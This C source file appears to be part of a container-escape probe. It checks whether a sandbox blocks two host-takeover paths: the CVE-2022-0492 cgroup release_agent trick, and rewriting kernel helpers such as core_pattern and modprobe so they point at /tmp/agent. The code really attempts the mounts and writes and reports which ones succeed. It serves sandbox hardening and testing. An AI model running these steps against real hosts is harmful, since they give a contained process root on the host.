#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <unistd.h>

#include "probe.h"

#define CGROUP_SUPER_MAGIC 0x27e0eb
#define CGROUP2_SUPER_MAGIC 0x63677270

// A program that the kernel would run as root of the host.
#define AGENT "/tmp/agent"

static int write_text(const char* path, const char* text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return -1;
  ssize_t n = write(fd, text, strlen(text));
  int error = errno;
  close(fd);
  errno = error;
  return n < 0 ? -1 : 0;
}

static int is_cgroup(const char* path) {
  struct statfs s;
  return statfs(path, &s) == 0 &&
         (s.f_type == CGROUP_SUPER_MAGIC || s.f_type == CGROUP2_SUPER_MAGIC);
}

// CVE-2022-0492: a version 1 hierarchy, mounted in a namespace of one's own, whose agent runs on
// the host when a cgroup becomes empty.
static int release_agent(const char* unused) {
  (void)unused;
  static const char* const CONTROLLERS[] = {
      "memory",         "rdma", "cpu", "pids", "devices", "net_cls", "misc", "none,name=systemd",
      "none,name=probe"};
  static const char* const PLACES[] = {"/tmp/cgroup", "/sys/fs/cgroup",
                                       "/proc/1/root/sys/fs/cgroup"};
  mkdir("/tmp/cgroup", 0755);
  for (size_t i = 0; i < sizeof(CONTROLLERS) / sizeof(CONTROLLERS[0]); ++i) {
    if (mount("cgroup", "/tmp/cgroup", "cgroup", 0, CONTROLLERS[i]) == 0)
      return worked("mount of a hierarchy");
    if (errno != EPERM && errno != ENOSYS) return worked("mount looked at its arguments");
  }
  refused("mount of a hierarchy");
  for (size_t i = 0; i < sizeof(PLACES) / sizeof(PLACES[0]); ++i) {
    char path[128];
    if (is_cgroup(PLACES[i])) return worked("a hierarchy is mounted");
    snprintf(path, sizeof(path), "%s/release_agent", PLACES[i]);
    if (write_text(path, AGENT) == 0) return worked(path);
    refused(path);
    snprintf(path, sizeof(path), "%s/notify_on_release", PLACES[i]);
    if (write_text(path, "1") == 0) return worked(path);
  }
  return REFUSED;
}

// Whom the kernel hands the memory of a process that has crashed, and other programs that it runs
// by a name that root can set.
static int core_pattern(const char* unused) {
  (void)unused;
  static const char* const FILES[] = {"kernel/core_pattern",
                                      "kernel/modprobe",
                                      "kernel/hotplug",
                                      "kernel/poweroff_cmd",
                                      "kernel/usermodehelper/bset",
                                      "kernel/core_pipe_limit",
                                      "fs/suid_dumpable"};
  static const char* const ROOTS[] = {"/proc/sys", "/proc/self/root/proc/sys",
                                      "/proc/1/root/proc/sys", "/proc/thread-self/cwd/proc/sys",
                                      "/tmp/proc/sys"};
  mkdir("/tmp/proc", 0755);
  if (mount("proc", "/tmp/proc", "proc", 0, "") == 0) return worked("mount of another /proc");
  refused("mount of another /proc");
  if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
    return worked("remount of /proc/sys");
  refused("remount of /proc/sys");
  if (umount2("/proc/sys", MNT_DETACH) == 0) return worked("umount of /proc/sys");
  refused("umount of /proc/sys");
  if (chdir("/") < 0) return not_attempted("chdir");
  for (size_t i = 0; i < sizeof(ROOTS) / sizeof(ROOTS[0]); ++i) {
    for (size_t j = 0; j < sizeof(FILES) / sizeof(FILES[0]); ++j) {
      char path[128];
      snprintf(path, sizeof(path), "%s/%s", ROOTS[i], FILES[j]);
      if (write_text(path, "|" AGENT) == 0) return worked(path);
      if (chmod(path, 0666) == 0) return worked(path);
    }
  }
  return refused("no program of the kernel's can be set");
}

const struct attack HOST_ATTACKS[] = {
    {"release-agent", release_agent},
    {"core-pattern", core_pattern},
    {0},
};
